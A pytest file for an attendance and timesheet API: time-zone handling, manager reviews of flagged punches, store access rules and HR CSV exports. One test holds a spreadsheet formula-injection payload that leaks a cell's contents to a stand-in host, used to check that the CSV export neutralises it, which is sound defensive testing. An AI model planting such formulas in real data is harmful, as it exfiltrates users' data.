"""What punches add up to: my days in each store's time zone, the store manager's day, reviews of
flagged punches, who may see which store, and HR's timesheets as JSON and CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime, timedelta
from typing import Any

import httpx
import pytest
from sqlalchemy import update

from domain.people.models import Employee
from domain.shared.actor import Role
from domain.shared.clock import ManualClock
from domain.shared.db import Database
from tests.factories import World, assign, hire

POSITIONS = {"S1": (31.2304, 121.4737), "S2": (31.2397, 121.4998), "S3": (43.7744, 87.6200)}
TIMESHEET_COLUMNS = [
    "employee_no",
    "full_name",
    "store_code",
    "date",
    "first_in",
    "last_out",
    "worked_minutes",
    "flags",
    "expected_minutes",
    "short_minutes",
    "planned_minutes",
    "late_minutes",
    "early_minutes",
    "shift_flags",
    "time_zone",
    "first_in_local",
    "last_out_local",
]


def at(text: str) -> datetime:
    return datetime.fromisoformat(text)


def iso(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


def punch_body(world: World, store: str = "S1", **change: Any) -> dict[str, Any]:
    lat, lon = POSITIONS[store]
    return {
        "kind": "in",
        "store_id": str(world.units[store]),
        "lat": lat,
        "lon": lon,
        "accuracy_m": 10.0,
        "client_time": iso(world.app.state.clock.now()),
        "device_id": "phone-1",
        **change,
    }


async def punch(client: httpx.AsyncClient, world: World, who: str, store: str = "S1", **change: Any) -> dict[str, Any]:
    """An accepted punch made now (by the app's clock); answers its body."""
    headers = {**world.headers(who), "Idempotency-Key": str(uuid.uuid4())}
    answer = await client.post("/api/v1/clock-ins", json=punch_body(world, store, **change), headers=headers)
    assert answer.status_code == 201, answer.text
    body: dict[str, Any] = answer.json()
    return body


async def punch_at(
    client: httpx.AsyncClient, world: World, clock: ManualClock, who: str, moment: str, store: str = "S1", **change: Any
) -> dict[str, Any]:
    clock.set(at(moment))
    return await punch(client, world, who, store, **change)


async def my_days(client: httpx.AsyncClient, world: World, who: str, start: str, end: str) -> list[dict[str, Any]]:
    answer = await client.get("/api/v1/me/attendance", params={"from": start, "to": end}, headers=world.headers(who))
    assert answer.status_code == 200, answer.text
    days: list[dict[str, Any]] = answer.json()["items"]
    return days


async def store_day(
    client: httpx.AsyncClient, world: World, who: str, store: str = "S1", day: str | None = None
) -> dict[str, Any]:
    params = {"date": day} if day else {}
    answer = await client.get(
        f"/api/v1/stores/{world.units[store]}/attendance", params=params, headers=world.headers(who)
    )
    assert answer.status_code == 200, answer.text
    body: dict[str, Any] = answer.json()
    return body


def names(people: list[dict[str, Any]]) -> list[str]:
    return [p["full_name"] for p in people]


def problem_type(answer: httpx.Response) -> str:
    assert answer.headers["content-type"].startswith("application/problem+json"), answer.text
    slug: str = answer.json()["type"]
    return slug


# --- my attendance --------------------------------------------------------------------------------


async def test_my_day_in_urumqi_is_the_local_day_not_the_utc_day(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    """18:30 UTC on 2 March is 00:30 on 3 March in Urumqi (UTC+6)."""
    await punch_at(client, world, clock, "staff_s3", "2026-03-02T18:30:00+00:00", "S3")
    await punch_at(client, world, clock, "staff_s3", "2026-03-03T02:45:00+00:00", "S3", kind="out")
    days = await my_days(client, world, "staff_s3", "2026-03-02", "2026-03-03")
    assert days == [
        {
            "date": "2026-03-03",
            "store_id": str(world.units["S3"]),
            "store_name": "Grand Bazaar store",
            "time_zone": "Asia/Urumqi",
            "first_in": "2026-03-02T18:30:00Z",
            "first_in_local": "2026-03-03T00:30:00+06:00",
            "last_out": "2026-03-03T02:45:00Z",
            "last_out_local": "2026-03-03T08:45:00+06:00",
            "worked_minutes": 495,
            "expected_minutes": 480,
            "short_minutes": 0,
            "flags": [],
            "planned_minutes": None,
            "shifts": [],
        }
    ]
    assert await my_days(client, world, "staff_s3", "2026-03-02", "2026-03-02") == []


async def test_a_late_shift_counts_on_the_day_it_started(client: httpx.AsyncClient, world: World, clock: ManualClock):
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T14:00:00+00:00")  # 22:00 in Shanghai
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T18:30:00+00:00", kind="out")  # 02:30 next day
    days = await my_days(client, world, "staff_s1", "2026-03-01", "2026-03-05")
    assert [(d["date"], d["worked_minutes"]) for d in days] == [("2026-03-02", 270)]
    assert await my_days(client, world, "staff_s1", "2026-03-03", "2026-03-03") == []


async def test_my_days_add_up_each_in_to_its_out_and_show_a_missing_out(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T01:00:00+00:00")  # forgot to punch out
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T01:00:00+00:00")
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T04:00:00+00:00", kind="out")
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T05:00:00+00:00", mock_location=True)
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T09:15:00+00:00", kind="out")
    days = await my_days(client, world, "staff_s1", "2026-03-01", "2026-03-31")
    assert [(d["date"], d["worked_minutes"], d["flags"]) for d in days] == [
        ("2026-03-02", 0, ["missing_out"]),
        ("2026-03-03", 180 + 255, ["mock_location"]),
    ]
    assert days[1]["first_in"] == "2026-03-03T01:00:00Z" and days[1]["last_out"] == "2026-03-03T09:15:00Z"
    assert days[0]["last_out"] is None


async def test_my_days_are_kept_per_store(
    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
):
    await assign(database, world, "staff_s1", "S2", date(2026, 3, 2), date(2026, 3, 3))
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T01:00:00+00:00", "S1")
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T03:00:00+00:00", "S1", kind="out")
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T04:00:00+00:00", "S2")
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T05:30:00+00:00", "S2", kind="out")
    days = await my_days(client, world, "staff_s1", "2026-03-02", "2026-03-02")
    minutes = {d["store_id"]: d["worked_minutes"] for d in days}
    assert minutes == {str(world.units["S1"]): 120, str(world.units["S2"]): 90}


@pytest.mark.parametrize(
    ("start", "end", "slug"),
    [
        ("2026-03-05", "2026-03-04", "validation.invalid_range"),
        ("2026-01-01", "2026-04-05", "validation.range_too_long"),
    ],
)
async def test_my_attendance_refuses_backwards_and_overlong_ranges(
    client: httpx.AsyncClient, world: World, start: str, end: str, slug: str
):
    answer = await client.get(
        "/api/v1/me/attendance", params={"from": start, "to": end}, headers=world.headers("staff_s1")
    )
    assert answer.status_code == 422
    assert problem_type(answer) == f"/problems/{slug}"


# --- the store manager's day ----------------------------------------------------------------------


async def test_the_store_day_shows_who_is_in_who_punched_who_is_absent_and_what_is_flagged(
    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
):
    await assign(database, world, "staff_s2", "S1", date(2026, 3, 2), date(2026, 3, 9))
    await punch_at(client, world, clock, "manager_s1", "2026-03-02T00:30:00+00:00")
    await punch_at(client, world, clock, "manager_s1", "2026-03-02T01:45:00+00:00", kind="out")
    flagged = await punch_at(client, world, clock, "staff_s1", "2026-03-02T02:00:00+00:00", mock_location=True)
    clock.set(at("2026-03-02T03:00:00+00:00"))

    day = await store_day(client, world, "manager_s1")
    assert day["date"] == "2026-03-02" and day["timezone"] == "Asia/Shanghai"
    assert day["store_id"] == str(world.units["S1"])
    assert names(day["in_now"]) == ["Staff S1"]
    assert names(day["punched"]) == ["Manager S1", "Staff S1"]
    assert names(day["absent"]) == ["Staff S2"]  # seconded to S1 this week, not here yet
    manager, staff = day["punched"]
    assert manager["present"] is False and manager["worked_minutes"] == 75
    assert manager["first_in"] == "2026-03-02T00:30:00Z" and manager["last_punch"] == "2026-03-02T01:45:00Z"
    assert staff["present"] is True and staff["employee_no"] == "E0102"
    assert [(p["id"], p["flags"]) for p in day["flagged"]] == [(flagged["id"], ["mock_location"])]

    s2 = await store_day(client, world, "manager_s2", "S2")
    assert names(s2["absent"]) == ["Manager S2"]  # staff_s2 works at S1 this week


async def test_the_store_day_can_be_asked_for_another_date_in_local_time(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T16:30:00+00:00")  # 00:30 on 3 March locally
    on_the_2nd = await store_day(client, world, "manager_s1", day="2026-03-02")
    assert names(on_the_2nd["punched"]) == [] and names(on_the_2nd["absent"]) == ["Manager S1", "Staff S1"]
    on_the_3rd = await store_day(client, world, "manager_s1", day="2026-03-03")
    assert names(on_the_3rd["in_now"]) == ["Staff S1"]
    default = await store_day(client, world, "manager_s1")
    assert default["date"] == "2026-03-03"  # today is the store's today


async def test_the_store_day_counts_a_late_shift_like_my_attendance_does(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T14:00:00+00:00")  # 22:00
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T18:30:00+00:00", kind="out")  # 02:30 next day
    clock.set(at("2026-03-03T03:00:00+00:00"))
    day = await store_day(client, world, "manager_s1", day="2026-03-02")
    (staff,) = day["punched"]
    assert staff["worked_minutes"] == 270
    assert day["in_now"] == []


async def test_someone_on_a_late_shift_is_in_now_after_midnight(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T14:00:00+00:00")  # 22:00
    clock.set(at("2026-03-02T17:00:00+00:00"))  # 01:00 on 3 March, still at work
    day = await store_day(client, world, "manager_s1")
    assert day["date"] == "2026-03-03"
    assert names(day["in_now"]) == ["Staff S1"]
    assert "Staff S1" not in names(day["absent"])


# --- reviews of flagged punches -------------------------------------------------------------------


async def review(
    client: httpx.AsyncClient, world: World, who: str, punch_id: str, decision: str = "confirm", reason: str = "ok"
) -> httpx.Response:
    return await client.post(
        f"/api/v1/clock-ins/{punch_id}/review",
        json={"decision": decision, "reason": reason},
        headers=world.headers(who),
    )


async def test_the_manager_confirms_or_rejects_a_flagged_punch_and_hr_sees_it_in_the_audit(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    offline = await punch(client, world, "staff_s1", kind="out", client_time=iso(clock.now() - timedelta(minutes=30)))
    assert offline["flags"] == ["offline"]

    confirmed = await review(client, world, "manager_s1", offline["id"], "confirm", "no signal in the basement")
    assert confirmed.status_code == 200, confirmed.text
    assert confirmed.json()["review_status"] == "confirmed"
    rejected = await review(client, world, "manager_s1", spoofed["id"], "reject", "  was at home, per CCTV  ")
    assert rejected.status_code == 200, rejected.text
    assert rejected.json()["review_status"] == "rejected"

    mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s1"))
    assert {p["id"]: p["review_status"] for p in mine.json()["items"]} == {
        offline["id"]: "confirmed",
        spoofed["id"]: "rejected",
    }
    trail = await client.get("/api/v1/audit", params={"entity_type": "clock_in"}, headers=world.headers("hr"))
    assert trail.status_code == 200, trail.text
    entries = {e["entity_id"]: e for e in trail.json()["items"]}
    assert set(entries) == {offline["id"], spoofed["id"]}
    entry = entries[spoofed["id"]]
    assert entry["action"] == "clock_in.reviewed" and entry["actor_id"] == str(world.accounts["manager_s1"])
    assert entry["changes"]["review_status"] == {"before": None, "after": "rejected"}
    assert entry["changes"]["reason"]["after"] == "was at home, per CCTV"


async def test_a_second_review_changes_the_decision_and_is_audited_again(client: httpx.AsyncClient, world: World):
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    await review(client, world, "manager_s1", spoofed["id"], "reject", "looked odd")
    again = await review(client, world, "hr", spoofed["id"], "confirm", "the phone's developer mode, not fraud")
    assert again.status_code == 200 and again.json()["review_status"] == "confirmed"
    trail = await client.get("/api/v1/audit", params={"entity_type": "clock_in"}, headers=world.headers("hr"))
    changes = [e["changes"]["review_status"] for e in trail.json()["items"]]
    assert changes == [{"before": "rejected", "after": "confirmed"}, {"before": None, "after": "rejected"}]


async def test_a_punch_with_a_missing_out_can_be_reviewed(client: httpx.AsyncClient, world: World, clock: ManualClock):
    first = await punch(client, world, "staff_s1")
    clock.advance(timedelta(hours=20))
    await punch(client, world, "staff_s1")
    answer = await review(client, world, "manager_s1", first["id"], "confirm", "forgot to punch out at 18:00")
    assert answer.status_code == 200, answer.text
    assert answer.json()["flags"] == ["missing_out"]


async def test_a_leader_who_manages_one_store_reviews_that_store_s_punches_alone(
    client: httpx.AsyncClient, world: World, database: Database
):
    """The leader role shows every store; it does not make its holder every store's manager."""
    await hire(database, world, "leading_manager", "E0901", "S1", [(Role.LEADER, "HQ"), (Role.STORE_MANAGER, "S1")])
    at_s1 = await punch(client, world, "staff_s1", mock_location=True)
    at_s2 = await punch(client, world, "staff_s2", "S2", mock_location=True)

    refused = await review(client, world, "leading_manager", at_s2["id"], "reject", "looked odd")
    assert refused.status_code == 403, refused.text
    assert refused.json()["type"] == "/problems/auth.forbidden"
    own = await review(client, world, "leading_manager", at_s1["id"], "reject", "was at home, per CCTV")
    assert own.status_code == 200, own.text
    mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s2"))
    assert [p["review_status"] for p in mine.json()["items"]] == [None]


async def test_an_unflagged_punch_is_not_reviewed(client: httpx.AsyncClient, world: World):
    clean = await punch(client, world, "staff_s1")
    answer = await review(client, world, "manager_s1", clean["id"])
    assert answer.status_code == 409
    assert problem_type(answer) == "/problems/clock_in.not_flagged"


@pytest.mark.parametrize(
    ("reviewer", "status", "slug"),
    [
        ("manager_s2", 404, "clock_in.not_found"),
        ("staff_s2", 404, "clock_in.not_found"),
        ("leader", 403, "auth.forbidden"),
    ],
)
async def test_only_the_stores_manager_or_hr_reviews(
    client: httpx.AsyncClient, world: World, reviewer: str, status: int, slug: str
):
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    answer = await review(client, world, reviewer, spoofed["id"])
    assert answer.status_code == status
    assert problem_type(answer) == f"/problems/{slug}"
    mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s1"))
    assert mine.json()["items"][0]["review_status"] is None


async def test_an_employee_reviewing_her_own_punch_is_told_why_not_that_it_does_not_exist(
    client: httpx.AsyncClient, world: World
):
    """She lists the punch among her own, so a 404 would be a lie: 403 with the reason. A punch she
    cannot see (a colleague's) stays 404, so ids leak nothing."""
    own = await punch(client, world, "staff_s1", mock_location=True)
    answer = await review(client, world, "staff_s1", own["id"])
    assert answer.status_code == 403, answer.text
    assert problem_type(answer) == "/problems/clock_in.own_punch"
    assert "own punch" in answer.json()["detail"]
    colleague = await punch(client, world, "manager_s1", mock_location=True)
    hidden = await review(client, world, "staff_s1", colleague["id"])
    assert hidden.status_code == 404 and problem_type(hidden) == "/problems/clock_in.not_found"
    mine = await client.get("/api/v1/me/clock-ins", headers=world.headers("staff_s1"))
    assert [p["review_status"] for p in mine.json()["items"]] == [None]


async def test_nobody_reviews_their_own_punch(client: httpx.AsyncClient, world: World):
    own = await punch(client, world, "manager_s1", mock_location=True)
    answer = await review(client, world, "manager_s1", own["id"])
    assert answer.status_code == 403
    assert problem_type(answer) == "/problems/clock_in.own_punch"
    by_hr = await review(client, world, "hr", own["id"])
    assert by_hr.status_code == 200 and by_hr.json()["review_status"] == "confirmed"


async def test_a_review_needs_a_reason_and_a_real_punch(client: httpx.AsyncClient, world: World):
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    blank = await review(client, world, "manager_s1", spoofed["id"], "reject", "   ")
    assert blank.status_code == 422
    unknown = await review(client, world, "manager_s1", str(uuid.uuid4()))
    assert unknown.status_code == 404
    assert problem_type(unknown) == "/problems/clock_in.not_found"


# --- who sees which store -------------------------------------------------------------------------

STORE_VIEWS = ["attendance", "clock-qr", "access-points"]


@pytest.mark.parametrize("view", STORE_VIEWS)
@pytest.mark.parametrize(
    ("who", "store", "status"),
    [
        ("manager_s1", "S1", 200),
        ("manager_s2", "S1", 404),
        ("manager_s1", "S3", 404),
        ("region_east", "S2", 200),
        ("region_east", "S3", 404),
        ("staff_s1", "S1", 404),
        ("ops_staff", "S1", 404),
        ("hr", "S1", 200),
        ("hr", "S3", 200),
        ("admin", "S2", 200),
    ],
)
async def test_store_views_answer_only_to_those_over_the_store(
    client: httpx.AsyncClient, world: World, view: str, who: str, store: str, status: int
):
    answer = await client.get(f"/api/v1/stores/{world.units[store]}/{view}", headers=world.headers(who))
    assert answer.status_code == status, answer.text
    if status == 404:
        assert problem_type(answer) == "/problems/store.not_found"


@pytest.mark.parametrize("view", STORE_VIEWS)
@pytest.mark.parametrize("target", ["unknown", "D-OPS", "R-EAST"])
async def test_store_views_of_something_that_is_not_a_store_are_404(
    client: httpx.AsyncClient, world: World, view: str, target: str
):
    unit = uuid.uuid4() if target == "unknown" else world.units[target]
    answer = await client.get(f"/api/v1/stores/{unit}/{view}", headers=world.headers("hr"))
    assert answer.status_code == 404


@pytest.mark.parametrize(
    ("who", "store", "status"),
    [
        ("hr", "S1", 200),
        ("admin", "S3", 200),
        ("manager_s1", "S1", 403),
        ("region_east", "S1", 403),
        ("manager_s2", "S1", 404),
        ("staff_s1", "S1", 404),
    ],
)
async def test_only_hr_and_admins_register_access_points(
    client: httpx.AsyncClient, world: World, who: str, store: str, status: int
):
    url = f"/api/v1/stores/{world.units[store]}/access-points"
    answer = await client.put(
        url, json={"access_points": [{"bssid": "AA-BB-CC-DD-EE-FF", "label": "till"}]}, headers=world.headers(who)
    )
    assert answer.status_code == status, answer.text
    listed = (await client.get(url, headers=world.headers("hr"))).json()
    assert listed == ([{"bssid": "aa:bb:cc:dd:ee:ff", "label": "till"}] if status == 200 else [])


async def test_access_points_are_replaced_whole_and_audited(client: httpx.AsyncClient, world: World):
    url = f"/api/v1/stores/{world.units['S1']}/access-points"
    first = {"access_points": [{"bssid": "aabb.ccdd.eeff"}, {"bssid": "00:11:22:33:44:55", "label": "till"}]}
    assert (await client.put(url, json=first, headers=world.headers("hr"))).status_code == 200
    second = await client.put(
        url, json={"access_points": [{"bssid": "00-11-22-33-44-55"}]}, headers=world.headers("hr")
    )
    assert second.json() == [{"bssid": "00:11:22:33:44:55", "label": None}]
    trail = await client.get(
        "/api/v1/audit", params={"action": "store.access_points_replaced"}, headers=world.headers("hr")
    )
    latest = trail.json()["items"][0]
    assert latest["entity_id"] == str(world.units["S1"])
    assert latest["changes"]["access_points"] == {
        "before": ["00:11:22:33:44:55", "aa:bb:cc:dd:ee:ff"],
        "after": ["00:11:22:33:44:55"],
    }


@pytest.mark.parametrize("bssid", ["aa:bb:cc:dd:ee", "gg:bb:cc:dd:ee:ff", "aa:bb:cc:dd:ee:ff:00", ""])
async def test_a_malformed_bssid_is_refused(client: httpx.AsyncClient, world: World, bssid: str):
    answer = await client.put(
        f"/api/v1/stores/{world.units['S1']}/access-points",
        json={"access_points": [{"bssid": bssid}]},
        headers=world.headers("hr"),
    )
    assert answer.status_code == 422


async def test_the_clock_qr_rotates_every_30_seconds(client: httpx.AsyncClient, world: World, clock: ManualClock):
    url = f"/api/v1/stores/{world.units['S1']}/clock-qr"
    clock.set(at("2026-03-02T01:00:10+00:00"))
    shown = (await client.get(url, headers=world.headers("manager_s1"))).json()
    assert shown["valid_from"] == "2026-03-02T01:00:00Z" and shown["refresh_at"] == "2026-03-02T01:00:30Z"
    clock.set(at("2026-03-02T01:00:29+00:00"))
    assert (await client.get(url, headers=world.headers("manager_s1"))).json()["token"] == shown["token"]
    clock.set(at("2026-03-02T01:00:30+00:00"))
    assert (await client.get(url, headers=world.headers("manager_s1"))).json()["token"] != shown["token"]
    other = await client.get(f"/api/v1/stores/{world.units['S2']}/clock-qr", headers=world.headers("hr"))
    assert other.json()["token"] != shown["token"]


# --- timesheets -----------------------------------------------------------------------------------


async def work_a_fortnight(client: httpx.AsyncClient, world: World, clock: ManualClock) -> None:
    """staff_s1 at S1 on 2 and 3 March (the second day with a spoofed in); staff_s3 at S3 on 3 March."""
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T01:00:00+00:00")
    await punch_at(client, world, clock, "staff_s1", "2026-03-02T09:00:00+00:00", kind="out")
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T01:00:00+00:00", mock_location=True)
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T05:30:00+00:00", kind="out")
    await punch_at(client, world, clock, "staff_s3", "2026-03-02T18:30:00+00:00", "S3")
    await punch_at(client, world, clock, "staff_s3", "2026-03-03T02:30:00+00:00", "S3", kind="out")
    clock.set(at("2026-03-16T02:00:00+00:00"))


async def timesheet(client: httpx.AsyncClient, world: World, who: str, **params: str) -> httpx.Response:
    return await client.get(
        "/api/v1/attendance/timesheets",
        params={"from": "2026-03-01", "to": "2026-03-31", **params},
        headers=world.headers(who),
    )


def read_csv(answer: httpx.Response) -> list[list[str]]:
    """The rows of a CSV download, as a spreadsheet reads it (UTF-8, its byte order mark dropped)."""
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_hr_gets_one_row_per_person_day_and_store(client: httpx.AsyncClient, world: World, clock: ManualClock):
    await work_a_fortnight(client, world, clock)
    answer = await timesheet(client, world, "hr")
    assert answer.status_code == 200, answer.text
    sheet = answer.json()
    assert (sheet["period_from"], sheet["period_to"]) == ("2026-03-01", "2026-03-31")
    rows = [(r["employee_no"], r["store_code"], r["date"], r["worked_minutes"], r["flags"]) for r in sheet["rows"]]
    assert rows == [
        ("E0102", "S1", "2026-03-02", 480, []),
        ("E0102", "S1", "2026-03-03", 270, ["mock_location"]),
        ("E0302", "S3", "2026-03-03", 480, []),
    ]
    assert sheet["rows"][0]["full_name"] == "Staff S1"
    assert sheet["rows"][0]["employee_id"] == str(world.employees["staff_s1"])
    assert sheet["rows"][2]["first_in"] == "2026-03-02T18:30:00Z"


async def test_a_rejected_punch_counts_for_nothing_on_the_timesheet_my_days_or_the_store_s_day(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    """The manager found the spoofed in on 3 March was made from home: payroll must not pay those
    hours, and nobody is shown as having worked them (the punch stays listed, with its review)."""
    clock.set(at("2026-03-03T01:00:00+00:00"))
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    await punch_at(client, world, clock, "staff_s1", "2026-03-03T05:30:00+00:00", kind="out")
    answer = await review(client, world, "manager_s1", spoofed["id"], "reject", "was at home, per CCTV")
    assert answer.status_code == 200, answer.text

    sheet = (await timesheet(client, world, "hr")).json()
    assert [(r["date"], r["worked_minutes"], r["first_in"]) for r in sheet["rows"]] == [("2026-03-03", 0, None)]
    days = await my_days(client, world, "staff_s1", "2026-03-01", "2026-03-31")
    assert [(d["date"], d["worked_minutes"], d["first_in"]) for d in days] == [("2026-03-03", 0, None)]
    store = await store_day(client, world, "manager_s1", day="2026-03-03")
    assert [(p["full_name"], p["worked_minutes"], p["first_in"]) for p in store["punched"]] == [("Staff S1", 0, None)]
    assert [(p["id"], p["review_status"]) for p in store["flagged"]] == [(spoofed["id"], "rejected")]

    # reviewed again and confirmed, the hours count again
    await review(client, world, "hr", spoofed["id"], "confirm", "the phone's developer mode, not fraud")
    sheet = (await timesheet(client, world, "hr")).json()
    assert [(r["date"], r["worked_minutes"]) for r in sheet["rows"]] == [("2026-03-03", 270)]


async def test_a_rejected_in_does_not_show_anyone_as_in_the_store_now(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    spoofed = await punch(client, world, "staff_s1", mock_location=True)
    assert names((await store_day(client, world, "manager_s1"))["in_now"]) == ["Staff S1"]
    await review(client, world, "manager_s1", spoofed["id"], "reject", "was at home, per CCTV")
    assert names((await store_day(client, world, "manager_s1"))["in_now"]) == []


async def test_the_timesheet_as_csv_is_a_download_with_a_header_row(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await work_a_fortnight(client, world, clock)
    answer = await timesheet(client, world, "hr", format="csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="timesheet-2026-03-01-2026-03-31.csv"'
    header, *rows = read_csv(answer)
    assert header == TIMESHEET_COLUMNS
    assert rows == [
        [
            "E0102",
            "Staff S1",
            "S1",
            "2026-03-02",
            "2026-03-02T01:00:00+00:00",
            "2026-03-02T09:00:00+00:00",
            "480",
            "",
            "480",
            "0",
            "",
            "0",
            "0",
            "",
            "Asia/Shanghai",
            "2026-03-02T09:00:00+08:00",
            "2026-03-02T17:00:00+08:00",
        ],
        [
            "E0102",
            "Staff S1",
            "S1",
            "2026-03-03",
            "2026-03-03T01:00:00+00:00",
            "2026-03-03T05:30:00+00:00",
            "270",
            "mock_location",
            "480",
            "210",
            "",
            "0",
            "0",
            "",
            "Asia/Shanghai",
            "2026-03-03T09:00:00+08:00",
            "2026-03-03T13:30:00+08:00",
        ],
        [
            "E0302",
            "Staff S3",
            "S3",
            "2026-03-03",
            "2026-03-02T18:30:00+00:00",
            "2026-03-03T02:30:00+00:00",
            "480",
            "",
            "480",
            "0",
            "",
            "0",
            "0",
            "",
            "Asia/Urumqi",
            "2026-03-03T00:30:00+06:00",
            "2026-03-03T08:30:00+06:00",
        ],
    ]


async def test_a_name_a_spreadsheet_would_run_is_neutralised_in_the_timesheet_csv(
    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
):
    """The timesheet CSV goes to payroll clerks' spreadsheets: a name such as `=HYPERLINK(...)` must
    arrive as text (leading apostrophe), as the pool payroll CSV already does; UTF-8 with a BOM so
    Chinese names show as written."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    async with database.session_scope() as session:
        for who, name in (("staff_s1", hostile), ("staff_s3", "张伟")):
            await session.execute(update(Employee).where(Employee.id == world.employees[who]).values(full_name=name))
    await work_a_fortnight(client, world, clock)
    answer = await timesheet(client, world, "hr", format="csv")
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    header, *rows = read_csv(answer)
    assert header == TIMESHEET_COLUMNS
    assert {row[1] for row in rows} == {"'" + hostile, "张伟"}
    assert (await timesheet(client, world, "hr")).json()["rows"][0]["full_name"] == hostile  # JSON is data, not a sheet


async def test_an_empty_period_is_a_header_row_only(client: httpx.AsyncClient, world: World):
    answer = await timesheet(client, world, "hr", format="csv")
    assert read_csv(answer) == [TIMESHEET_COLUMNS]
    assert (await timesheet(client, world, "hr")).json()["rows"] == []


@pytest.mark.parametrize(("unit", "people"), [("S3", ["E0302"]), ("R-EAST", ["E0102"]), ("HQ", ["E0102", "E0302"])])
async def test_the_timesheet_narrows_to_a_unit(
    client: httpx.AsyncClient, world: World, clock: ManualClock, unit: str, people: list[str]
):
    await work_a_fortnight(client, world, clock)
    answer = await timesheet(client, world, "hr", unit=str(world.units[unit]))
    assert answer.status_code == 200, answer.text
    assert sorted({r["employee_no"] for r in answer.json()["rows"]}) == people


async def test_a_store_manager_gets_the_timesheet_of_their_own_store_only(
    client: httpx.AsyncClient, world: World, clock: ManualClock
):
    await work_a_fortnight(client, world, clock)
    answer = await timesheet(client, world, "manager_s1")
    assert answer.status_code == 200, answer.text
    assert {(r["employee_no"], r["store_code"]) for r in answer.json()["rows"]} == {("E0102", "S1")}


async def test_a_secondees_days_stay_on_the_store_timesheet_after_the_secondment(
    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
):
    await assign(database, world, "ops_staff", "S1", date(2026, 3, 2), date(2026, 3, 4))
    await punch_at(client, world, clock, "ops_staff", "2026-03-02T01:00:00+00:00")
    await punch_at(client, world, clock, "ops_staff", "2026-03-02T09:00:00+00:00", kind="out")
    during = await timesheet(client, world, "manager_s1")
    assert [r["employee_no"] for r in during.json()["rows"]] == ["E0005"]
    clock.set(at("2026-03-16T02:00:00+00:00"))
    after = await timesheet(client, world, "manager_s1")
    assert [r["employee_no"] for r in after.json()["rows"]] == ["E0005"]


@pytest.mark.parametrize(
    ("start", "end", "status", "slug"),
    [
        ("2026-03-05", "2026-03-04", 422, "validation.invalid_range"),
        ("2026-01-01", "2026-04-05", 422, "validation.range_too_long"),
        ("2025-01-01", "2026-03-31", 422, "validation.range_too_long"),
        ("2026-01-01", "2026-04-03", 200, None),  # 93 days, both ends included
        ("2026-03-04", "2026-03-04", 200, None),
    ],
)
async def test_timesheet_ranges_are_checked(
    client: httpx.AsyncClient, world: World, start: str, end: str, status: int, slug: str | None
):
    answer = await timesheet(client, world, "hr", **{"from": start, "to": end})
    assert answer.status_code == status, answer.text
    if slug:
        assert problem_type(answer) == f"/problems/{slug}"


async def test_a_94_day_timesheet_is_refused(client: httpx.AsyncClient, world: World):
    answer = await timesheet(client, world, "hr", **{"from": "2026-01-01", "to": "2026-04-04"})
    assert answer.status_code == 422
    assert problem_type(answer) == "/problems/validation.range_too_long"


@pytest.mark.parametrize("who", ["staff_s1", "ops_staff", "ops_head"])
async def test_staff_do_not_export_timesheets(client: httpx.AsyncClient, world: World, who: str):
    answer = await timesheet(client, world, who)
    assert answer.status_code == 403
    assert problem_type(answer) == "/problems/auth.forbidden"


async def test_an_unknown_format_is_refused(client: httpx.AsyncClient, world: World):
    answer = await timesheet(client, world, "hr", format="xlsx")
    assert answer.status_code == 422
